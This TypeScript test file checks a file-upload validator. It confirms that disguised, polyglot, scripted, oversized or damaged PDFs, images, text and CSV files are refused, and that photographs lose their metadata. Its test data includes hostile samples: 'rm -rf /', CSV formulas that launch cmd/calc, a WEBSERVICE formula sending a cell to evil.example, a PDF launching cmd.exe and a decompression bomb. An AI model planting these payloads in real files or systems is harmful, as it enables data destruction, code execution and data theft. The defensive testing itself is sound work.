import { deflateSync } from 'node:zlib';
import jpeg from 'jpeg-js';
import { PNG } from 'pngjs';
import { expect, test } from 'vitest';
import type { FileType } from '../stored-file.ts';
import { checkContent } from './content.ts';
import {
  contentTypes,
  docx,
  jpegOf,
  officeParts,
  packedObjects,
  pdf,
  photograph,
  png,
  pngChunk,
  pngClaiming,
  xlsx,
  zip,
} from './samples.fixture.ts';

const said = (type: FileType, bytes: Buffer | string) => checkContent(type, Buffer.from(bytes)).because;
const office = 'application/vnd.openxmlformats-officedocument';

test.for<[string, FileType, () => Buffer | string, string]>([
  // another kind than its name says
  ['a program called a PDF', 'pdf', () => 'MZ\x90\0', 'kind-and-content-differ'],
  ['a page called a picture', 'png', () => '<html>', 'kind-and-content-differ'],
  ['a PDF called text', 'txt', () => pdf(), 'kind-and-content-differ'],
  ['a workbook called a document', 'docx', () => xlsx(), 'kind-and-content-differ'],
  ['an archive called a document', 'docx', () => zip([{ name: 'a.txt', content: 'a' }]), 'kind-and-content-differ'],
  [
    'a template called a document',
    'docx',
    () => docx(contentTypes(`${office}.wordprocessingml.template.main+xml`)),
    'kind-and-content-differ',
  ],
  ['a document locked with a password', 'docx', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'locked'],
  // more than one kind
  [
    'a PDF that is an archive too',
    'pdf',
    () => Buffer.concat([pdf(), zip([{ name: 'a', content: 'a' }])]),
    'more-than-one-kind',
  ],
  ['a PDF that is a page too', 'pdf', () => pdf('% <script>alert(1)</script>'), 'more-than-one-kind'],
  [
    'a picture that is a PDF too',
    'png',
    () => Buffer.concat([png().subarray(0, 33), pngChunk('tEXt', pdf()), png().subarray(33)]),
    'more-than-one-kind',
  ],
  [
    'a photograph that is an archive too',
    'jpeg',
    () => Buffer.concat([jpegOf(), zip([{ name: 'a', content: 'a' }])]),
    'more-than-one-kind',
  ],
  ['a photograph that is a page too', 'jpeg', () => photograph(1, '<html><script>'), 'more-than-one-kind'],
  [
    'a document with a PDF at its beginning',
    'docx',
    () => zip([{ name: 'x.xml', content: '%PDF-1.4', stored: true }, ...officeParts('docx')]),
    'more-than-one-kind',
  ],
  // PDF
  ['a PDF cut short', 'pdf', () => pdf().subarray(0, 60), 'damaged'],
  ['a PDF with something after its end', 'pdf', () => Buffer.concat([pdf(), Buffer.from('more')]), 'damaged'],
  ['a PDF with a script', 'pdf', () => pdf('3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'), 'script'],
  ['a PDF with a script whose name is disguised', 'pdf', () => pdf('3 0 obj << /S /J#61vaScript >> endobj'), 'script'],
  ['a PDF with a script that is packed', 'pdf', () => pdf(packedObjects('3 0 << /S /JavaScript >>')), 'script'],
  [
    'a PDF with objects packed in an unknown way',
    'pdf',
    () => pdf(packedObjects('3 0 <<>>', '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]')),
    'damaged',
  ],
  [
    'a PDF whose objects unpack without end',
    'pdf',
    () =>
      pdf(
        `9 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n${deflateSync(Buffer.alloc(120_000_000)).toString('latin1')}\nendstream`,
      ),
    'unpacks-too-large',
  ],
  ['a PDF that starts a program', 'pdf', () => pdf('3 0 obj << /S /Launch /F (cmd.exe) >> endobj'), 'script'],
  ['a PDF with a file inside', 'pdf', () => pdf('3 0 obj << /Type /EmbeddedFile >> endobj'), 'other-files-inside'],
  ['a PDF that is locked', 'pdf', () => pdf('trailer << /Encrypt 5 0 R >>'), 'locked'],
  // text
  ['text with zero bytes', 'txt', () => 'a\0b', 'kind-and-content-differ'],
  ['text with control characters', 'txt', () => 'a\x1b[2Jb', 'kind-and-content-differ'],
  ['a page called text', 'txt', () => '  <!doctype html><p>', 'script'],
  ['a script called text', 'txt', () => '#!/bin/sh\nrm -rf /', 'script'],
  ['a script further down', 'csv', () => 'a,b\n1,<script src=x>', 'script'],
  ['a table that starts a program', 'csv', () => `name,age\n"=cmd|'/c calc'!A1",4`, 'script'],
  ['a table that starts a program after a sum', 'csv', () => `a;-1+1+cmd|' /c calc'!A0`, 'script'],
  ['a table that fetches', 'csv', () => 'a,b\n=WEBSERVICE("https://evil.example/"&A1),2', 'script'],
  [
    'a table in UTF-16 that starts a program',
    'csv',
    () => Buffer.from(`\uFEFFa\t=cmd|'/c calc'!A1`, 'utf16le'),
    'script',
  ],
  // pictures
  ['a picture of 50,000 by 50,000', 'png', () => pngClaiming(50_000, 50_000), 'too-many-pixels'],
  [
    'a picture with two headers',
    'png',
    () => Buffer.concat([png().subarray(0, 33), pngClaiming(50_000, 50_000).subarray(8)]),
    'damaged',
  ],
  ['a picture cut short', 'png', () => png().subarray(0, 70), 'damaged'],
  ['a photograph cut short', 'jpeg', () => jpegOf().subarray(0, 30), 'damaged'],
  ['a photograph of nothing', 'jpeg', () => Buffer.from('ffd8ffe000104a46494600ffd9', 'hex'), 'damaged'],
])('%s is refused', ([, type, make, because]) => {
  expect(said(type, make())).toBe(because);
});

test('a photograph that claims too many pixels is refused before it is unpacked', () => {
  const claiming = Buffer.from(jpegOf());
  const frame = claiming.indexOf(Buffer.from('ffc0', 'hex'));
  claiming.writeUInt16BE(50_000, frame + 5);
  claiming.writeUInt16BE(50_000, frame + 7);
  expect(said('jpeg', claiming)).toBe('too-many-pixels');
});

test.for<[string, FileType, () => Buffer | string]>([
  ['a PDF', 'pdf', () => pdf('4 0 obj << /S /URI /URI (https://example.org) >> endobj')],
  ['a PDF with packed objects', 'pdf', () => pdf(packedObjects('3 0 << /Type /Page >>'))],
  ['a table', 'csv', () => 'name,change\n"Zoë, of Anytown",-4\r\n+44 20 7946 0000,@home\n- Police | Health,1'],
  ['a table as Excel saves it', 'csv', () => Buffer.from('name;caf\xe9', 'latin1')],
  ['text', 'txt', () => 'We met on 4 May.\n\nActions:\n- 3 < 4 and <name@agency.example>'],
  ['text in UTF-16', 'txt', () => Buffer.from('\uFEFFWe met', 'utf16le')],
])('%s is taken as it is', ([, type, make]) => {
  expect(checkContent(type, Buffer.from(make()))).toEqual({});
});

const drawn = (type: 'jpeg' | 'png', bytes: Buffer): Buffer => {
  const verdict = checkContent(type, bytes);
  return 'drawnAnew' in verdict && verdict.drawnAnew ? verdict.drawnAnew : Buffer.alloc(0);
};

test('of a photograph nothing is kept but its pixels', () => {
  const taken = Buffer.concat([photograph(), Buffer.from('SEFH a film and a smaller copy')]);
  const anew = drawn('jpeg', taken);
  expect(taken.includes('Jane Smith') && taken.includes('Exif')).toBe(true);
  for (const word of ['Jane Smith', 'Exif', '51.5007', 'a film']) expect(anew.includes(word)).toBe(false);
  expect(jpeg.decode(anew)).toMatchObject({ width: 40, height: 20 });
});

test('of a PNG nothing is kept but its pixels', () => {
  const noted = Buffer.concat([
    png().subarray(0, 33),
    pngChunk('tEXt', Buffer.from('Author\0Jane Smith')),
    png().subarray(33),
  ]);
  const anew = drawn('png', noted);
  expect(noted.includes('Jane Smith')).toBe(true);
  expect(anew.includes('Jane Smith')).toBe(false);
  expect(PNG.sync.read(anew).data.equals(PNG.sync.read(png()).data)).toBe(true);
});

/** Where the red quarter is. */
const redIn = ({ width, height, data }: { width: number; height: number; data: Uint8Array }) =>
  [
    ['top left', width / 4, height / 4],
    ['top right', (width * 3) / 4, height / 4],
    ['bottom left', width / 4, (height * 3) / 4],
    ['bottom right', (width * 3) / 4, (height * 3) / 4],
  ].find(([, x, y]) => (data[(Math.floor(Number(y)) * width + Math.floor(Number(x))) * 4 + 1] ?? 255) < 128)?.[0];

test.for<[number, string, number]>([
  [1, 'top left', 40],
  [2, 'top right', 40],
  [3, 'bottom right', 40],
  [4, 'bottom left', 40],
  [5, 'top left', 20],
  [6, 'top right', 20],
  [7, 'bottom right', 20],
  [8, 'bottom left', 20],
])('a photograph that was held the way %i is drawn upright', ([held, corner, width]) => {
  const picture = jpeg.decode(drawn('jpeg', photograph(held)));
  expect([redIn(picture), picture.width]).toEqual([corner, width]);
});
